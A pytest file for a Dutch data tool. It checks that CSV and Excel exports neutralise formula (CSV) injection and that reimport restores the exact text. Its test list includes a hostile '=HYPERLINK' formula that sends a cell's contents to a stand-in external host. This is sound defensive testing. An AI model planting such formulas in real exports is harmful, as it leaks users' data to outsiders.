"""Exports that Excel cannot execute (OWASP CSV injection), and that read back exactly.

A text cell that starts with = + - @, a tab or a carriage return gets one leading quote
(and so does a text that starts with a quote itself, so a user's own quote survives);
``impact importeer`` drops exactly that quote. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from impact import store
from impact.io.exporter import export_file
from impact.io.importer import import_file
from impact.io.tabular import FORMULA_START, guard_formula, unguard_formula

GEVAARLIJK = [
    '=HYPERLINK("http://x.example/?d="&A1;"klik")',
    "+31 6 12345678",
    "-5",
    "@SUM(A1:A3)",
    "\t=1",
    "\r=1",
    "'al een quote",
    "''twee quotes",
    "'=beide",
    "gewoon",
]
ORDER = ("interventies", "clienten", "identiteiten", "metingen", "verhalen")  # importable in this order


def test_guard_is_reversible_and_only_touches_what_it_must():
    for tekst in GEVAARLIJK:
        veilig = guard_formula(tekst)
        assert veilig[0] not in FORMULA_START
        assert unguard_formula(veilig) == tekst
    assert guard_formula("gewoon") == "gewoon" and guard_formula(-5) == -5 and guard_formula(2.5) == 2.5
    assert unguard_formula("'gewoon") == "'gewoon"  # a quote the export did not add stays


def _bron(tmp_path) -> str:
    """A database whose identities, measurements and stories hold the dangerous texts."""
    from sqlalchemy import text

    url = f"sqlite:///{tmp_path / 'bron.db'}"
    engine = store.connect(url)
    store.upgrade(engine)
    with engine.begin() as c:
        c.execute(text("INSERT INTO interventie (id, naam) VALUES (1, 'Schuldhulp')"))
        c.execute(
            text("INSERT INTO client (id, pseudoniem, gemeente, wijk) VALUES (1, 'C1', 'Weert', 'Centrum')")
        )
        domein = c.execute(text("SELECT d.id FROM domein d JOIN instrument i ON i.id = d.instrument_id "
                                "WHERE i.code = 'ZRM' AND d.code = 'financien'")).scalar()  # fmt: skip
        for i, t in enumerate(GEVAARLIJK):
            c.execute(
                text("INSERT INTO client_identiteit (client_id, soort, waarde) VALUES (1, 'naaste', :t)"),
                {"t": t},
            )
            c.execute(
                text(
                    "INSERT INTO meting (client_id, domein_id, datum, score, bron) VALUES (1, :d, :datum, :s, :t)"
                ),
                {"d": domein, "datum": f"2024-01-{i + 1:02d}", "s": 1 + i % 5, "t": t},
            )
            c.execute(
                text("INSERT INTO verhaal (titel, tekst, soort, datum, client_id, toestemming) "
                     "VALUES (:t, :tekst, 'clientverhaal', :datum, 1, 'intern')"),
                {"t": t, "tekst": t + " verhaal", "datum": f"2024-02-{i + 1:02d}"},
            )  # fmt: skip
    return url


def _tekstcellen(pad) -> list[str]:
    if pad.suffix == ".xlsx":
        boek = load_workbook(pad)
        cellen = [c for blad in boek for rij in blad.iter_rows() for c in rij]
        assert not any(c.data_type == "f" for c in cellen), "een formulecel in de export"
        return [c.value for c in cellen if isinstance(c.value, str)]
    rijen = list(csv.reader(io.StringIO(pad.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    return [c for rij in rijen for c in rij if not _getal(c)]


def _getal(cel: str) -> bool:
    try:
        float(cel.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_holds_no_formula_and_reimport_gives_the_text_back(tmp_path, suffix):
    bron = store.connect(_bron(tmp_path))
    nieuw = store.connect(f"sqlite:///{tmp_path / 'nieuw.db'}")
    store.upgrade(nieuw)
    for soort in ORDER:
        pad = tmp_path / f"{soort}{suffix}"
        export_file(bron, soort, pad)
        for cel in _tekstcellen(pad):
            assert cel[:1] not in FORMULA_START, (soort, cel)
        import_file(nieuw, soort, pad)
    for naam, kolommen in (
        ("identiteiten", ["soort", "waarde"]),
        ("metingen", ["datum", "score", "bron"]),
        ("verhalen", ["titel", "tekst", "datum"]),
    ):
        voor, na = store.read(bron, naam)[kolommen], store.read(nieuw, naam)[kolommen]
        pd.testing.assert_frame_equal(voor, na)
    assert set(store.read(nieuw, "identiteiten")["waarde"]) == set(GEVAARLIJK)


def test_negative_numbers_stay_numbers_in_xlsx(tmp_path):
    from impact.io.tabular import write_table

    pad = write_table(pd.DataFrame({"score": [-5.0, 2.0], "tekst": ["-5", "=1"]}), tmp_path / "t.xlsx")
    blad = load_workbook(pad).active
    assert blad["A2"].value == -5 and blad["A2"].data_type == "n"
    assert blad["B2"].value == "'-5" and blad["B3"].value == "'=1"
